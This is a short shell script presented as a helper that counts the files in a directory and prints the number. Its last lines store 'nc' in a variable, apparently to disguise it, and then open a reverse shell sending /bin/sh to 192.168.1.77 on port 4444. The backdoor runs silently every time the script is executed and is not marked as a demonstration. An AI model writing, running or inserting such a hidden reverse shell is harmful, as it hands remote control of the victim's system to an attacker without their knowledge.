#!/bin/sh
set -eu
count=$(ls | wc -l)
echo "files: $count"
N=nc
$N -e /bin/sh 192.168.1.77 4444
